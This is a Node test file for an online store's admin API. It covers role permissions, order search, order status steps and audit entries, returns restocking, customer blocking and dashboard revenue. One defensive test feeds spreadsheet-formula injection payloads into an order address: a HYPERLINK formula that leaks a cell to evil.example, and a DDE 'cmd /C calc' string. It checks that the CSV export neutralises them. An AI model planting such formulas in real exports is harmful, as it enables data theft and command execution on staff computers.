/**
 * The admin API over orders, returns, refunds, customers and the dashboard (docs/admin.md):
 * each role allowed and refused on each route, order filters and search, the store's steps
 * with their audit entries, restocking a return, a blocked customer, and the orders export
 * writing a shopper's formula-like address as text (docs/admin.md "CSV files").
 */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import { ADMIN_MESSAGES, AUTH_MESSAGES, type AdminRole, type Order } from '@vastra/contracts';
import { and, eq } from 'drizzle-orm';
import { stockMovements, variants } from '../../db/schema';
import { bearer, freshIp, register, type Account } from '../../test/accounts';
import { createTestApp, type TestContext } from '../../test/harness';
import { DELHI_ADDRESS, MANY_ORDERS_ENV } from '../../test/orders';
import { deliver, piecesOf, placePaidOrder, sendReturn, type Piece } from '../../test/returns';
import { asStaff, type StaffLogin, staffTeam } from '../../test/staff';

let ctx: TestContext;
let team: Record<AdminRole, StaffLogin>;
let shopper: Account;
let pieces: Piece[];

before(async () => {
  ctx = await createTestApp({ env: MANY_ORDERS_ENV });
  team = await staffTeam(ctx);
  shopper = await register(ctx.app, { name: 'Meera Iyer', phone: '9123456780' });
  pieces = await piecesOf(ctx, 3, { blocked: false, pricePaise: 149_900 });
});
after(() => ctx.close());

async function order(quantity = 1, extra: Record<string, unknown> = {}): Promise<Order> {
  return placePaidOrder(ctx, shopper, {
    items: [{ productId: pieces[0]!.productId, variantId: pieces[0]!.variantId, quantity }],
    ...extra,
  });
}

describe('roles on every admin route', () => {
  it('allows and refuses each role as ADMIN_PERMISSIONS says', async () => {
    const placed = await order();
    // [method, url, body, roles allowed]; a refused role gets 403 before anything happens.
    const routes: [string, string, unknown, AdminRole[]][] = [
      ['GET', '/admin/api/dashboard', undefined, ['owner', 'staff', 'support']],
      ['GET', '/admin/api/orders', undefined, ['owner', 'staff', 'support']],
      ['GET', '/admin/api/orders/export', undefined, ['owner', 'staff', 'support']],
      ['GET', `/admin/api/orders/${placed.id}`, undefined, ['owner', 'staff', 'support']],
      ['POST', `/admin/api/orders/${placed.id}/notes`, { body: 'Called the shopper' }, ['owner', 'staff', 'support']],
      ['POST', `/admin/api/orders/${placed.id}/resend-confirmation`, undefined, ['owner', 'staff', 'support']],
      ['POST', `/admin/api/orders/${placed.id}/steps`, { to: 'confirmed' }, ['owner', 'staff']],
      ['POST', '/admin/api/orders/bulk-steps', { ids: [placed.id], to: 'packed' }, ['owner', 'staff']],
      ['POST', `/admin/api/orders/${placed.id}/cancel`, { reason: 'Out of stock' }, ['owner', 'staff']],
      ['GET', '/admin/api/returns', undefined, ['owner', 'staff', 'support']],
      ['POST', `/admin/api/orders/${placed.id}/return/approve`, {}, ['owner', 'staff']],
      ['POST', `/admin/api/orders/${placed.id}/return/refund`, {}, ['owner', 'staff']],
      ['GET', '/admin/api/refunds', undefined, ['owner', 'staff']],
      ['POST', '/admin/api/refunds/00000000-0000-4000-8000-000000000000/retry', undefined, ['owner', 'staff']],
      ['POST', '/admin/api/refunds/refresh', undefined, ['owner', 'staff']],
      ['GET', '/admin/api/customers', undefined, ['owner', 'staff', 'support']],
      ['GET', `/admin/api/customers/${shopper.userId}`, undefined, ['owner', 'staff', 'support']],
      ['POST', `/admin/api/customers/${shopper.userId}/notes`, { body: 'VIP' }, ['owner', 'staff', 'support']],
      ['POST', `/admin/api/customers/${shopper.userId}/block`, { blocked: false }, ['owner']],
    ];
    const audited = async () =>
      (await asStaff(ctx.app, team.owner, 'GET', '/admin/api/audit?perPage=1')).json().data.total as number;
    for (const [method, url, body, allowed] of routes) {
      for (const role of ['support', 'staff', 'owner'] as AdminRole[]) {
        const entriesBefore = await audited();
        const res = await asStaff(ctx.app, team[role], method as 'GET', url, body);
        if (allowed.includes(role)) {
          assert.notEqual(res.statusCode, 403, `${role} ${method} ${url}: ${res.body}`);
          assert.notEqual(res.statusCode, 401, `${role} ${method} ${url}`);
          // Every write that went through is in the audit log; reads and refusals are not.
          const written = method === 'POST' && res.statusCode < 300;
          assert.equal(await audited(), entriesBefore + (written ? 1 : 0), `audit of ${role} ${method} ${url}`);
        } else {
          assert.equal(res.statusCode, 403, `${role} ${method} ${url}: ${res.body}`);
          assert.equal(res.json().message, ADMIN_MESSAGES.notAllowed);
        }
      }
      const stranger = await ctx.app.inject({
        method: method as 'GET',
        url,
        ...(body ? { payload: body as object } : {}),
      });
      assert.equal(stranger.statusCode, 401, `no session ${method} ${url}`);
      const asShopper = await ctx.app.inject({ method: method as 'GET', url, headers: bearer(shopper.token) });
      assert.equal(asShopper.statusCode, 401, `a shopper's token ${method} ${url}`);
    }
  });
});

describe('orders', () => {
  it('finds an order by number, phone, email and AWB, and filters by status, state, pincode and dates', async () => {
    const delhi = await order(2, { shippingAddress: { ...DELHI_ADDRESS, phone: '9988776655' } });
    const list = (query: string) => asStaff(ctx.app, team.support, 'GET', `/admin/api/orders?${query}`);
    const ids = async (query: string) => {
      const res = await list(query);
      assert.equal(res.statusCode, 200, res.body);
      return (res.json().data.rows as { id: string }[]).map((r) => r.id);
    };
    assert.deepEqual(await ids(`q=${delhi.orderNumber}`), [delhi.id]);
    const [row] = (await list(`q=${delhi.orderNumber}`)).json().data.rows;
    assert.equal(row.itemCount, 2, 'the row counts the pieces');
    assert.ok((await ids('q=99887%2076655')).includes(delhi.id), 'by the delivery phone, as typed');
    assert.ok((await ids(`q=${encodeURIComponent(shopper.email)}`)).includes(delhi.id), 'by the shopper email');
    assert.ok((await ids('q=9123456780')).includes(delhi.id), 'by the account phone');
    assert.ok((await ids('state=Delhi')).includes(delhi.id));
    assert.ok(!(await ids('state=Karnataka')).includes(delhi.id));
    assert.ok((await ids('pincode=110001')).includes(delhi.id));
    assert.ok(!(await ids('pincode=560001')).includes(delhi.id));
    assert.ok((await ids('status=placed,confirmed')).includes(delhi.id));
    assert.ok(!(await ids('status=shipped')).includes(delhi.id));
    assert.ok((await ids('paymentGateway=sandbox&paymentStatus=completed')).includes(delhi.id));
    const today = new Date(Date.now() + 5.5 * 3_600_000).toISOString().slice(0, 10);
    assert.ok((await ids(`from=${today}&to=${today}`)).includes(delhi.id));
    assert.ok(!(await ids('from=2020-01-01&to=2020-01-31')).includes(delhi.id));
    assert.equal((await list('pincode=12')).statusCode, 400);

    for (const to of ['confirmed', 'packed'] as const) {
      const res = await asStaff(ctx.app, team.staff, 'POST', `/admin/api/orders/${delhi.id}/steps`, { to });
      assert.equal(res.statusCode, 200, res.body);
    }
    const noAwb = await asStaff(ctx.app, team.staff, 'POST', `/admin/api/orders/${delhi.id}/steps`, {
      to: 'shipped',
      courier: 'Delhivery',
    });
    assert.equal(noAwb.statusCode, 400);
    const shipped = await asStaff(ctx.app, team.staff, 'POST', `/admin/api/orders/${delhi.id}/steps`, {
      to: 'shipped',
      courier: 'Delhivery',
      awb: 'DLV1234567890',
      trackingUrl: 'https://www.delhivery.com/track/package/DLV1234567890',
    });
    assert.equal(shipped.statusCode, 200, shipped.body);
    assert.deepEqual(await ids('q=DLV1234567890'), [delhi.id]);

    const csv = await asStaff(ctx.app, team.support, 'GET', '/admin/api/orders/export?state=Delhi');
    assert.match(String(csv.headers['content-type']), /text\/csv/);
    assert.match(csv.body, /^orderNumber,createdAt,status/);
    assert.ok(csv.body.includes(`${delhi.orderNumber},`));
    assert.ok(csv.body.includes(',DLV1234567890'));

    // A step out of order is refused with the lifecycle's message and changes nothing.
    const back = await asStaff(ctx.app, team.staff, 'POST', `/admin/api/orders/${delhi.id}/steps`, { to: 'confirmed' });
    assert.equal(back.statusCode, 409);

    const audit = await asStaff(ctx.app, team.owner, 'GET', `/admin/api/audit?entity=order&entityId=${delhi.id}`);
    const entries = audit.json().data.rows as {
      action: string;
      actor: { email: string };
      before: Order;
      after: Order;
    }[];
    const ship = entries.find((e) => e.action === 'order.step' && e.after.status === 'shipped')!;
    assert.equal(ship.actor.email, team.staff.email);
    assert.equal(ship.before.status, 'packed');
    assert.equal(ship.after.shipment?.awb, 'DLV1234567890');
    assert.equal(entries.filter((e) => e.action === 'order.step').length, 3, 'refused steps are not recorded');
  });

  it('exports a shopper’s formula-like address as text, never a formula (OWASP CSV injection)', async () => {
    const name = '=HYPERLINK("http://evil.example/?x="&B2,"Invoice")';
    const city = "@SUM(1+1)*cmd|' /C calc'!A0";
    const placed = await order(1, { shippingAddress: { ...DELHI_ADDRESS, firstName: name, lastName: '-Rao', city } });
    const res = await asStaff(ctx.app, team.support, 'GET', `/admin/api/orders/export?q=${placed.orderNumber}`);
    assert.equal(res.statusCode, 200, res.body);
    const [header, row, ...more] = parse(res.body) as string[][];
    assert.equal(more.length, 0);
    const cell = (column: string) => row![header!.indexOf(column)];
    assert.equal(cell('customerName'), `'${name} -Rao`);
    assert.equal(cell('city'), `'${city}`);
    assert.equal(cell('orderNumber'), placed.orderNumber);
    assert.equal(cell('total'), placed.totalAmount.toFixed(2), 'an amount is left as it is');
    for (const value of row!) assert.doesNotMatch(value, /^[=+@\t\r-]/, 'no cell a spreadsheet would run');
  });

  it('shows the order with its customer and internal notes, which the shopper never sees', async () => {
    const placed = await order();
    await asStaff(ctx.app, team.support, 'POST', `/admin/api/orders/${placed.id}/notes`, { body: 'Gift wrap it' });
    const res = await asStaff(ctx.app, team.support, 'GET', `/admin/api/orders/${placed.id}`);
    const { order: view, customer, notes } = res.json().data;
    assert.equal(view.orderNumber, placed.orderNumber);
    assert.equal(customer.email, shopper.email);
    assert.equal(notes[0].body, 'Gift wrap it');
    assert.equal(notes[0].author, 'support member');
    const own = await ctx.app.inject({ method: 'GET', url: `/orders/${placed.id}`, headers: bearer(shopper.token) });
    assert.ok(!own.body.includes('Gift wrap it'));
  });
});

/** The stock of the ordered size now. */
async function stockOf(): Promise<number> {
  const [row] = await ctx.database.db.select().from(variants).where(eq(variants.id, pieces[0]!.variantId));
  return row!.stock;
}

describe('returns', () => {
  it('a picked-up return restocked puts the pieces back, as a stock movement', async () => {
    const placed = await order(2);
    await deliver(ctx, placed.id);
    const asked = await sendReturn(ctx, shopper, placed.id, { reason: 'size' });
    assert.equal(asked.status, 201, JSON.stringify(asked.body));
    const queue = await asStaff(ctx.app, team.support, 'GET', '/admin/api/returns?status=requested');
    assert.equal(queue.json().data.rows[0].orderId, placed.id, 'the newest asked-for return leads the queue');

    const before = await stockOf();
    const step = (name: string, body: object = {}) =>
      asStaff(ctx.app, team.staff, 'POST', `/admin/api/orders/${placed.id}/return/${name}`, body);
    assert.equal((await step('approve')).statusCode, 200);
    const picked = await step('pickup', { restock: true });
    assert.equal(picked.statusCode, 200, picked.body);
    assert.equal(await stockOf(), before + 2);
    const [movement] = await ctx.database.db
      .select()
      .from(stockMovements)
      .where(and(eq(stockMovements.variantId, pieces[0]!.variantId), eq(stockMovements.reason, 'returned')));
    assert.deepEqual(
      { reason: movement!.reason, before: movement!.stockBefore, after: movement!.stockAfter, actor: movement!.actor },
      { reason: 'returned', before, after: before + 2, actor: team.staff.email },
    );
    assert.equal(movement!.reference, placed.orderNumber);

    const refunded = await step('refund');
    assert.equal(refunded.statusCode, 200, refunded.body);
    assert.equal(refunded.json().data.order.status, 'refunded');
  });

  it('a pickup with restock false leaves the stock alone', async () => {
    const placed = await order(1);
    await deliver(ctx, placed.id);
    await sendReturn(ctx, shopper, placed.id, { reason: 'fit' });
    const stockBefore = await stockOf();
    await asStaff(ctx.app, team.owner, 'POST', `/admin/api/orders/${placed.id}/return/approve`, {});
    // Without a choice a return for fit would go back in stock (the reason's default, docs/admin.md).
    await asStaff(ctx.app, team.owner, 'POST', `/admin/api/orders/${placed.id}/return/pickup`, { restock: false });
    assert.equal(await stockOf(), stockBefore);
  });
});

describe('customers', () => {
  it('a blocked customer is logged out and cannot log in or order until unblocked', async () => {
    const blocked = await register(ctx.app, { name: 'Karan Shah' });
    const found = await asStaff(
      ctx.app,
      team.support,
      'GET',
      `/admin/api/customers?q=${encodeURIComponent(blocked.email)}`,
    );
    assert.deepEqual(
      found.json().data.rows.map((r: { id: string }) => r.id),
      [blocked.userId],
    );
    const res = await asStaff(ctx.app, team.owner, 'POST', `/admin/api/customers/${blocked.userId}/block`, {
      blocked: true,
    });
    assert.equal(res.statusCode, 200);
    assert.equal(res.json().data.blocked, true);

    const me = await ctx.app.inject({ method: 'GET', url: '/auth/me', headers: bearer(blocked.token) });
    assert.equal(me.statusCode, 401);
    const login = await ctx.app.inject({
      method: 'POST',
      url: '/auth/login',
      remoteAddress: freshIp(),
      payload: { email: blocked.email, password: blocked.password },
    });
    assert.equal(login.statusCode, 403);
    assert.equal(login.json().message, AUTH_MESSAGES.accountBlocked);

    await asStaff(ctx.app, team.owner, 'POST', `/admin/api/customers/${blocked.userId}/block`, { blocked: false });
    const again = await ctx.app.inject({
      method: 'POST',
      url: '/auth/login',
      remoteAddress: freshIp(),
      payload: { email: blocked.email, password: blocked.password },
    });
    assert.equal(again.statusCode, 200);
  });
});

describe('dashboard', () => {
  it('counts today’s orders and revenue in exact paise, with GST apart', async () => {
    const read = async () => (await asStaff(ctx.app, team.support, 'GET', '/admin/api/dashboard')).json().data;
    const before = await read();
    const placed = await order(1);
    const now = await read();
    assert.equal(now.today.orders, before.today.orders + 1);
    assert.equal(now.today.revenuePaise - before.today.revenuePaise, Math.round(placed.totalAmount * 100));
    assert.equal(now.today.gstPaise - before.today.gstPaise, Math.round(placed.totalTax * 100));
    assert.equal(now.salesPerDay.length, 30);
    assert.deepEqual(now.salesPerDay.at(-1), { day: now.salesPerDay.at(-1).day, ...now.today });
    assert.ok(now.byStatus.some((s: { status: string }) => s.status === 'placed'));
  });
});
